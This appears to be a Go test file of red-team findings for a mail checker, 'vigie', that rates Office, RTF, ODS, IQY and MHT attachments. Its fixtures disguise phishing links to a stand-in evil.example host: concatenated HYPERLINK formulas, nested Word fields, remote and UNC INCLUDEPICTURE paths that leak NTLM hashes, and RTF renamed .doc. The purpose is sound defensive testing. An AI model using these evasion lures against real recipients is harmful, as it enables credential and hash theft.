package verify

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

// Red team red33, Office findings (see redteam_red33_test.go).

const red33Xlsx = "Content-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet; name=releve.xlsx"

// red33Sheet is a worksheet whose cell A1 holds that formula, shown as
// "Votre espace".
func red33Sheet(formula string) [2]string {
	return [2]string{"xl/worksheets/sheet1.xml", `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">` +
		`<c r="A1" t="str"><f>` + formula + `</f><v>Votre espace</v></c></row></sheetData></worksheet>`}
}

// TestRed33ExcelLinkBuilt (finding 3, a miss, sure). Excel evaluates a
// HYPERLINK formula's first argument: "https://www.ameli.fr"&".evil.example/login"
// leads to www.ameli.fr.evil.example, CONCATENATE or a cell reference
// to whatever they give. vigie read the first string literal only
// (https://www.ameli.fr: Official) or nothing when the argument is no
// literal (Official). Root cause: mimeoffice.go formulaLinks takes the
// first quoted string after "HYPERLINK(" for the whole argument.
func TestRed33ExcelLinkBuilt(t *testing.T) {
	c := mailChecker(t)
	for _, formula := range []string{
		`HYPERLINK("https://www.ameli.fr"&amp;".evil.example/login","Votre espace")`,
		`HYPERLINK(CONCATENATE("https://","evil.example/login"),"Votre espace")`,
		`HYPERLINK(B1,"Votre espace")`,
		`hyperlink( "https://www.ameli.fr" &amp; B1 )`,
		`HYPERLINK("https://www.ameli.fr""@evil.example/login","Votre espace")`,
	} {
		t.Run(formula, func(t *testing.T) {
			rep := red31Check(t, c, red32Attach(red33Xlsx, red32Zip(t, red33Sheet(formula))))
			assert.NotEqual(t, Official, rep.Status, "%v", rep.Reasons)
		})
	}
	t.Run("a literal link stays official", func(t *testing.T) {
		rep := red31Check(t, c, red32Attach(red33Xlsx, red32Zip(t, red33Sheet(`HYPERLINK( "https://www.ameli.fr/assure" , "Votre espace")`))))
		assert.Equal(t, Official, rep.Status, "%v", rep.Reasons)
	})
}

// TestRed33WordNestedField (finding 4, a miss, likely: Word's field
// evaluation per ECMA-376 17.16.1, a nested field's result is part of the
// enclosing field's instruction; not run in Word here). Word fields nest
// ({ HYPERLINK "{ MERGEFIELD Lien }" } in every mail merge): the result
// of the inner field, its runs between its separate and end marks, is
// written into the outer field's instruction. vigie joined only the
// w:instrText runs of the outer field: `HYPERLINK "https://www.ameli.fr`
// + { QUOTE ".evil.example/login" } + `"` read https://www.ameli.fr
// (Official) where Word goes to www.ameli.fr.evil.example. Root cause:
// mimeoffice.go officeLinks writes a nested field's result nowhere.
func TestRed33WordNestedField(t *testing.T) {
	c := mailChecker(t)
	nested := func(result string) string {
		return `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>` +
			`<w:r><w:instrText xml:space="preserve"> HYPERLINK "https://www.ameli.fr</w:instrText></w:r>` +
			`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> QUOTE "` + result + `" </w:instrText></w:r>` +
			`<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>` + result + `</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>` +
			`<w:r><w:instrText xml:space="preserve">" </w:instrText></w:r>` +
			`<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Votre espace</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
	}
	doc := func(p string) [2]string {
		return [2]string{"word/document.xml", red32Word + p + `</w:body></w:document>`}
	}
	t.Run("nested result extends the URL", func(t *testing.T) {
		rep := red31Check(t, c, red32Attach(red32Docx, red32Zip(t, doc(nested(".evil.example/login")))))
		assert.NotEqual(t, Official, rep.Status, "%v", rep.Reasons)
	})
	t.Run("nested result official", func(t *testing.T) {
		rep := red31Check(t, c, red32Attach(red32Docx, red32Zip(t, doc(nested("/assure")))))
		assert.Equal(t, Official, rep.Status, "%v", rep.Reasons)
	})
}

// TestRed33OpenDocumentFormulaLinks (finding 5, a miss, sure).
// LibreOffice Calc writes a cell's formula in its table:formula
// attribute (OpenFormula, "of:=HYPERLINK("url";"label")", arguments
// parted by ';') and shows the label as a link it opens on a click, as
// Excel does its <f>. vigie read Excel's <f> only: the .ods stayed
// Official. Root cause: mimeoffice.go officeLinks reads no formula in
// an attribute.
func TestRed33OpenDocumentFormulaLinks(t *testing.T) {
	c := mailChecker(t)
	ods := func(formula string) [2]string {
		return [2]string{"content.xml", `<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" ` +
			`xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">` +
			`<office:body><office:spreadsheet><table:table><table:table-row><table:table-cell table:formula="` + formula +
			`" office:value-type="string" office:string-value="Votre espace"><text:p>Votre espace</text:p></table:table-cell>` +
			`</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>`}
	}
	const head = "Content-Type: application/vnd.oasis.opendocument.spreadsheet; name=releve.ods"
	for _, formula := range []string{
		`of:=HYPERLINK(&quot;https://evil.example/login&quot;;&quot;Votre espace&quot;)`,
		`oooc:=HYPERLINK(&quot;https://evil.example/login&quot;;&quot;Votre espace&quot;)`,
		`of:=HYPERLINK(&quot;https://www.ameli.fr&quot;&amp;&quot;.evil.example/login&quot;;&quot;Votre espace&quot;)`,
	} {
		t.Run(formula, func(t *testing.T) {
			rep := red31Check(t, c, red32Attach(head, red32Zip(t, ods(formula))))
			assert.NotEqual(t, Official, rep.Status, "%v", rep.Reasons)
		})
	}
	t.Run("an official link stays official", func(t *testing.T) {
		rep := red31Check(t, c, red32Attach(head, red32Zip(t, ods(`of:=HYPERLINK(&quot;https://www.ameli.fr/assure&quot;;&quot;Votre espace&quot;)`))))
		assert.Equal(t, Official, rep.Status, "%v", rep.Reasons)
		assert.Contains(t, reportURLs(rep), "https://www.ameli.fr/assure")
	})
}

// TestRed33WordIncludeFields (finding 6, a miss, likely: Word's field
// reference for INCLUDEPICTURE and INCLUDETEXT; not run in Word here).
// Word fetches what an INCLUDEPICTURE or INCLUDETEXT field names each
// time it updates it ("\d": each time the document opens), and shows it
// in the document; a server there is content vigie cannot read, fetched
// from a site (a tracking pixel, a UNC path that leaks the reader's
// NTLM hash, a text with links), as the remote template of an
// attachedTemplate relationship, which vigie reads as a link. vigie read
// HYPERLINK fields only: Official. Root cause: mimeoffice.go fieldLink.
func TestRed33WordIncludeFields(t *testing.T) {
	c := mailChecker(t)
	doc := func(instr string) []byte {
		return red32Zip(t, [2]string{"word/document.xml", red32Word + red32Field(instr) + `</w:body></w:document>`})
	}
	for _, instr := range []string{
		` INCLUDEPICTURE "https://evil.example/logo.png" \d `,
		` INCLUDEPICTURE  \* MERGEFORMATINET "http://evil.example/logo.png" `,
		` INCLUDETEXT "https://evil.example/annexe.docx" `,
		// Word reads "\\" in a field's quoted text as one backslash.
		` INCLUDEPICTURE "\\\\evil.example\\share\\logo.png" `,
	} {
		t.Run(instr, func(t *testing.T) {
			rep := red31Check(t, c, red32Attach(red32Docx, doc(instr)))
			assert.NotEqual(t, Official, rep.Status, "%v", rep.Reasons)
		})
	}
	for _, instr := range []string{
		` INCLUDEPICTURE "C:\\Users\\agent\\Pictures\\logo.png" \* MERGEFORMAT `,
		` INCLUDEPICTURE "https://www.ameli.fr/logo.png" \d `,
		` INCLUDETEXT "Annexe.docx" `,
	} {
		t.Run("official "+instr, func(t *testing.T) {
			rep := red31Check(t, c, red32Attach(red32Docx, doc(instr)))
			assert.Equal(t, Official, rep.Status, "%v", rep.Reasons)
		})
	}
}

// red33RTF is an RTF document whose HYPERLINK field Word follows.
const red33RTF = `{\rtf1\ansi{\field{\*\fldinst{HYPERLINK "https://evil.example/login"}}{\fldrslt{Votre espace}}}}`

// TestRed33RTFAsWordDocument (finding 7, a miss, sure). Word opens a
// file by its content, not its name: an RTF document named .doc (or
// .dot) opens as RTF, its HYPERLINK fields live (the commonest disguise
// of RTF exploit documents, CVE-2017-0199 and CVE-2017-11882). vigie
// reads an .rtf (and application/rtf) as text, but skipped the same
// document named releve.doc or typed application/msword: Official; so
// for a page named .doc, which Word opens as a web page.
// Root cause: mimehtml.go partKind (by name and type only; the sniff is
// for HTML in application/octet-stream).
func TestRed33RTFAsWordDocument(t *testing.T) {
	c := mailChecker(t)
	for _, tt := range []struct{ name, msg string }{
		{"application/msword named .doc", red31Attached("Content-Type: application/msword; name=releve.doc\n\n" + red33RTF)},
		{"octet-stream named .doc", red31Attached("Content-Type: application/octet-stream; name=releve.doc\n\n" + red33RTF)},
		{"a .dot template", red31Attached("Content-Type: application/msword; name=modele.dot\n\n" + red33RTF)},
		{"a .doc in a zip", red32Attach("Content-Type: application/zip; name=releve.zip", red32Zip(t, [2]string{"releve.doc", red33RTF}))},
		// Word opens a page named .doc as a web page document.
		{"a page named .doc", red31Attached("Content-Type: application/msword; name=releve.doc\n\n<html><body><a href=\"https://evil.example/login\">Votre espace</a></body></html>")},
	} {
		t.Run(tt.name, func(t *testing.T) {
			rep := red31Check(t, c, tt.msg)
			assert.NotEqual(t, Official, rep.Status, "%v", rep.Reasons)
			assert.Contains(t, reportURLs(rep), "https://evil.example/login")
		})
	}
	t.Run("a binary .doc is not read as text", func(t *testing.T) {
		rep := red31Check(t, c, red31Attached("Content-Type: application/msword; name=releve.doc\n\n\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 www.evil.com"))
		assert.NotContains(t, reportURLs(rep), "www.evil.com")
	})
}

// TestRed33ExcelWebQuery (finding 8, a miss, sure). An .iqy file (Excel
// Web Query: "WEB", "1", then a URL, as text) opens in Excel, which
// fetches the URL and shows what it returns, links and all, or a
// login form (the Necurs campaigns of 2018 mailed .iqy attachments).
// vigie reads the URLs of internet shortcuts written as text (.url,
// .website, .desktop), not this one: Official. Root cause: mimehtml.go
// partKind.
func TestRed33ExcelWebQuery(t *testing.T) {
	c := mailChecker(t)
	const iqy = "WEB\r\n1\r\nhttps://evil.example/releve\r\n"
	for _, tt := range []struct{ name, msg string }{
		{"attached", red31Attached("Content-Type: application/octet-stream; name=releve.iqy\n\n" + iqy)},
		{"typed text/x-ms-iqy", red31Attached("Content-Type: text/x-ms-iqy; name=releve.iqy\n\n" + iqy)},
		{"in a zip", red32Attach("Content-Type: application/zip; name=releve.zip", red32Zip(t, [2]string{"releve.iqy", iqy}))},
	} {
		t.Run(tt.name, func(t *testing.T) {
			rep := red31Check(t, c, tt.msg)
			assert.NotEqual(t, Official, rep.Status, "%v", rep.Reasons)
		})
	}
}

// red33WordML is a Word 2003 XML document (WordprocessingML 2003) with a
// hyperlink; the processing instruction has Windows' Office XML Handler
// open the .xml file in Word.
const red33WordML = `<?xml version="1.0"?><?mso-application progid="Word.Document"?>` +
	`<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:body><w:p>` +
	`<w:hlink w:dest="https://evil.example/login"><w:r><w:t>Votre espace</w:t></w:r></w:hlink></w:p></w:body></w:wordDocument>`

// TestRed33WordXMLHyperlink (finding 9, a miss, sure). Word 2003 XML
// writes a hyperlink as <w:hlink w:dest="url">, and Windows opens an
// .xml file that names its application in an mso-application
// processing instruction in that application (the Office XML Handler);
// Word opens such a document named .doc as well. vigie did not read
// w:hlink's dest in a zip's .xml entry, and skipped an .xml attachment
// typed application/xml or application/octet-stream, and such a .doc:
// Official. Root cause: mimeoffice.go officeLinks (w:hlink), mimehtml.go
// partKind (.xml).
func TestRed33WordXMLHyperlink(t *testing.T) {
	c := mailChecker(t)
	for _, tt := range []struct{ name, msg string }{
		{"application/xml named .xml", red31Attached("Content-Type: application/xml; name=releve.xml\n\n" + red33WordML)},
		{"octet-stream named .xml", red31Attached("Content-Type: application/octet-stream; name=releve.xml\n\n" + red33WordML)},
		{"named .doc", red31Attached("Content-Type: application/msword; name=releve.doc\n\n" + red33WordML)},
		{"an .xml in a zip", red32Attach("Content-Type: application/zip; name=releve.zip", red32Zip(t, [2]string{"releve.xml", red33WordML}))},
		{"entity-written, in a zip", red32Attach("Content-Type: application/zip; name=releve.zip", red32Zip(t, [2]string{"releve.xml",
			strings.Replace(red33WordML, "https://", "https&#58;//", 1)}))},
	} {
		t.Run(tt.name, func(t *testing.T) {
			rep := red31Check(t, c, tt.msg)
			assert.NotEqual(t, Official, rep.Status, "%v", rep.Reasons)
			assert.Contains(t, reportURLs(rep), "https://evil.example/login")
		})
	}
}

// TestRed33WordAltChunk (finding 12, a miss, likely: ECMA-376 17.17.2
// altChunk, the imported part's type given by [Content_Types].xml, as
// OPC reads every part's; not run in Word here). A Word document may
// import another document into its body (w:altChunk, an aFChunk
// relationship): HTML, RTF or text, which Word converts and shows, its
// links live. Its part's name need not say what it is: OPC takes a
// part's type from [Content_Types].xml. vigie read a zip's entries by
// their names only, and skipped word/chunk.dat: Official. Root cause:
// mimezip.go readZipEntry.
func TestRed33WordAltChunk(t *testing.T) {
	c := mailChecker(t)
	const types = `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
		`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
		`<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>` +
		`<Override PartName="/word/chunk.dat" ContentType="text/html"/></Types>`
	docx := func(chunk string) []byte {
		return red32Zip(t, [2]string{"[Content_Types].xml", types},
			[2]string{"word/document.xml", red32Word + `<w:altChunk r:id="rId9" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></w:body></w:document>`},
			[2]string{"word/_rels/document.xml.rels", red32Rels + `<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="chunk.dat"/></Relationships>`},
			[2]string{"word/chunk.dat", chunk})
	}
	t.Run("an HTML chunk", func(t *testing.T) {
		rep := red31Check(t, c, red32Attach(red32Docx, docx(`<html><body><p><a href="https://evil.example/login">Votre espace</a></p></body></html>`)))
		assert.NotEqual(t, Official, rep.Status, "%v", rep.Reasons)
		assert.Contains(t, reportURLs(rep), "https://evil.example/login")
	})
	t.Run("an RTF chunk", func(t *testing.T) {
		rep := red31Check(t, c, red32Attach(red32Docx, docx(red33RTF)))
		assert.NotEqual(t, Official, rep.Status, "%v", rep.Reasons)
	})
	t.Run("an official chunk", func(t *testing.T) {
		rep := red31Check(t, c, red32Attach(red32Docx, docx(`<html><body><p><a href="https://www.ameli.fr/assure">Votre espace</a></p></body></html>`)))
		assert.Equal(t, Official, rep.Status, "%v", rep.Reasons)
	})
}

// TestRed33WebArchiveAsWordDocument (finding 13, a miss, sure). Word
// opens a web archive (MHT, "Single File Web Page": a MIME message
// holding a page) named .doc as the page it holds, its links live, a
// disguise as old as finding 7's. vigie reads an .mht attachment as an
// attached message, and left the same file named releve.doc unread:
// Official. Root cause: mime.go walk (messages by type and name only),
// mimezip.go readZipEntry.
func TestRed33WebArchiveAsWordDocument(t *testing.T) {
	c := mailChecker(t)
	const mht = "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=\"x\"\n\n--x\nContent-Type: text/html\n" +
		"Content-Location: file:///C:/releve.htm\n\n<a href=\"https://evil.example/login\">Votre espace</a>\n--x--\n"
	for _, tt := range []struct{ name, msg string }{
		{"application/msword", red31Attached("Content-Type: application/msword; name=releve.doc\n\n" + mht)},
		{"octet-stream named .doc", red31Attached("Content-Type: application/octet-stream; name=releve.doc\n\n" + mht)},
		{"a .doc in a zip", red32Attach("Content-Type: application/zip; name=releve.zip", red32Zip(t, [2]string{"releve.doc", mht}))},
	} {
		t.Run(tt.name, func(t *testing.T) {
			rep := red31Check(t, c, tt.msg)
			assert.NotEqual(t, Official, rep.Status, "%v", rep.Reasons)
		})
	}
}

// TestRed33ExcelFormulaResultShown (finding 14, a miss, sure). Excel
// shows a string formula's result, stored in the cell's <v> (t="str"):
// ="remboursement@ameli-"&"aide.com" shows the lookalike address, written
// nowhere as a string of its own; and an Office chart draws its title
// and labels from its string cache (c:strCache's c:v). vigie read the
// text of shared and inline strings and runs (<t>) only: Official. Root
// cause: mimeoffice.go officeLinks reads no <v>.
func TestRed33ExcelFormulaResultShown(t *testing.T) {
	c := mailChecker(t)
	sheet := func(cell string) [2]string {
		return [2]string{"xl/worksheets/sheet1.xml", `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">` +
			cell + `</row></sheetData></worksheet>`}
	}
	t.Run("a string formula's result", func(t *testing.T) {
		rep := red31Check(t, c, red32Attach(red33Xlsx, red32Zip(t, sheet(`<c r="A1" t="str"><f>"Envoyez votre RIB a remboursement@ameli-"&amp;"aide.com"</f><v>Envoyez votre RIB a remboursement@ameli-aide.com</v></c>`))))
		assert.Equal(t, Lookalike, rep.Status, "%v", rep.Reasons)
	})
	t.Run("a chart's cached label", func(t *testing.T) {
		// A chart (in a .docx, .xlsx or .pptx) draws its titles and
		// category labels from its string cache (c:strCache c:v).
		chart := [2]string{"word/charts/chart1.xml", `<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:chart><c:title><c:tx><c:strRef><c:f>Feuil1!$A$1</c:f>` +
			`<c:strCache><c:ptCount val="1"/><c:pt idx="0"><c:v>Envoyez votre RIB a remboursement@ameli-aide.com</c:v></c:pt></c:strCache></c:strRef></c:tx></c:title></c:chart></c:chartSpace>`}
		rep := red31Check(t, c, red32Attach(red32Docx, red32Zip(t, [2]string{"word/document.xml", red32Word + `</w:body></w:document>`}, chart)))
		assert.Equal(t, Lookalike, rep.Status, "%v", rep.Reasons)
	})
	t.Run("a number is no text", func(t *testing.T) {
		rep := red31Check(t, c, red32Attach(red33Xlsx, red32Zip(t, sheet(`<c r="A1"><v>3.14</v></c><c r="B1" t="s"><v>0</v></c>`))))
		assert.Equal(t, Official, rep.Status, "%v", rep.Reasons)
	})
}
